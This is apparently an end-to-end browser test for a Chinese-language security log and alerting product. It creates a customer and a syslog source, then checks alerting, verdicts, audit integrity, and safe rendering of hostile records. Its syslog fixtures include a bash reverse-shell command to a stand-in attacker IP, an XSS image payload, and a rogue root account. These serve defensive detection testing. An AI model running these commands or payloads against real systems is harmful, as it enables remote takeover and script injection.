import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { browserPath, datagram, datagramUntil, password, startBrowser, startProduct, type Product } from './product';

const chromium = browserPath();
if (!chromium) console.warn('SKIPPED: browser tests, no Chromium found');

describe.skipIf(!chromium)('the main job, by hand', () => {
  let product: Product;
  let browser: Browser;
  let page: Page;
  const errors: string[] = [];

  beforeAll(async () => {
    product = await startProduct();
    browser = await startBrowser(chromium!);
    const context = await browser.newContext({ locale: 'zh-CN', viewport: { width: 1440, height: 900 } });
    page = await context.newPage();
    page.on('pageerror', (error) => errors.push(String(error)));
    page.on('console', (message) => {
      // The first question of a fresh browser, who am I, is answered 401.
      if (message.type() === 'error' && !message.text().includes('401')) errors.push(message.text());
    });
  });
  afterAll(async () => {
    await browser?.close();
    await product?.stop();
  });

  it('logs in', async () => {
    await page.goto(product.http);
    await page.getByLabel('用户名').fill('admin');
    await page.getByLabel('密码').fill('wrong-passphrase');
    await page.getByRole('button', { name: '登录' }).click();
    await page.getByRole('alert').first().waitFor();
    await page.getByLabel('密码').fill(password);
    await page.getByRole('button', { name: '登录' }).click();
    // A fresh installation asks where to begin; this newcomer knows.
    await page.getByRole('heading', { name: '开始使用' }).waitFor();
    await page.getByRole('button', { name: '稍后再说' }).click();
    await page.getByRole('heading', { name: '总览', exact: true }).waitFor();
  });

  it('makes a customer', async () => {
    await page.getByRole('link', { name: '客户', exact: true }).click();
    await page.getByRole('button', { name: '新增客户' }).click();
    await page.getByLabel('名称', { exact: true }).fill('示例医院');
    await page.getByLabel('标识', { exact: true }).fill('hospital');
    await page.getByRole('button', { name: '创建' }).click();
    await page.getByRole('grid').getByText('示例医院').waitFor();
  });

  it('makes a source that takes syslog from this machine', async () => {
    await page.goto(`${product.http}/sources?tenant=hospital`);
    await page.getByRole('button', { name: '新建日志源' }).first().click();
    await page.getByLabel('名称').fill('门诊服务器');
    await page.getByText('更多设置').click();
    const senders = page.getByLabel('发送方地址');
    await senders.fill('127.0.0.1/32');
    await senders.press('Enter');
    await page.locator('.ant-select-selection-item').filter({ hasText: '127.0.0.1/32' }).waitFor();
    await page.getByLabel('名称').click();
    await page.getByRole('button', { name: /^创\s*建$/ }).click();
    await page.getByText('令牌只显示这一次').waitFor();
    expect(await page.locator('.snippet pre').first().innerText()).toContain('token=');
    await datagramUntil(product.syslog, '<38>Jan  2 03:04:05 his-web01 sshd[42]: Accepted publickey for deploy from 192.0.2.9 port 4711 ssh2', () => page.getByText('已收到日志').isVisible());
    await page.locator('.parsed').getByText('linux.auth').first().waitFor({ timeout: 30_000 });
    await page.getByRole('link', { name: '查看日志源' }).click();
    await page.getByRole('heading', { name: '门诊服务器' }).waitFor();
    await page.goto(`${product.http}/sources?tenant=hospital`);
    await page.getByRole('table').getByText('门诊服务器').waitFor();
  });

  it('raises an alert from syslog', async () => {
    const stamp = new Date().toUTCString().replace(/^\w+, (\d+) (\w+) \d+ ([\d:]+) GMT$/, (_, day: string, month: string, time: string) => `${month} ${day.replace(/^0/, ' ')} ${time}`);
    await datagram(product.syslog, `<86>${stamp} his-db01 sudo: nobody : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.66/4444 0>&1`);
    await datagram(product.syslog, `<86>${stamp} his-db01 useradd[4711]: new user: name=<img src=x onerror=alert(1)>, UID=0, GID=0, home=/root, shell=/bin/bash`);
    await datagram(product.syslog, `<86>${stamp} his-db01 useradd[4712]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash`);
    await page.goto(`${product.http}/alerts?tenant=hospital`);
    await page.getByRole('grid').getByText('his-db01').first().waitFor({ timeout: 30_000 });
  });

  it('shows why it fired and takes a verdict', async () => {
    await page.getByRole('grid').getByRole('link').first().click();
    await page.getByRole('complementary', { name: '预览' }).getByText('UID').first().waitFor();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: '为什么告警' }).waitFor();
    await page.locator('.why mark').first().waitFor();
    await page.getByRole('button', { name: /^确\s*认$/ }).click();
    await page.getByRole('button', { name: /^闭\s*环$/ }).first().click();
    await page.getByRole('radio', { name: '真实攻击，有影响' }).check();
    await page.getByLabel('依据').fill('已与客户确认：非授权账户');
    await page.getByRole('form', { name: '闭环告警' }).getByRole('button', { name: /^闭\s*环$/ }).click();
    await page.getByRole('button', { name: '重新打开' }).waitFor();
    expect(await page.locator('main').innerText()).toContain('已与客户确认');
  });

  it('finds the records and renders a hostile one as text', async () => {
    await page.goto(`${product.http}/search?tenant=hospital&q=${encodeURIComponent('onerror')}`);
    await page.getByText(/onerror/).first().waitFor({ timeout: 30_000 });
    await page.locator('main table').getByText(/onerror/).first().waitFor();
    expect(await page.locator('img[src="x"]').count()).toBe(0);
  });

  it('shows it all in the audit and proves the chain', async () => {
    await page.goto(`${product.http}/audit?tenant=hospital`);
    await page.getByText('闭环告警').first().waitFor();
    await page.getByRole('button', { name: '校验完整性' }).click();
    await page.getByText(/完整，共/).waitFor();
  });

  it('made no error in the browser', () => {
    expect(errors).toEqual([]);
  });
});
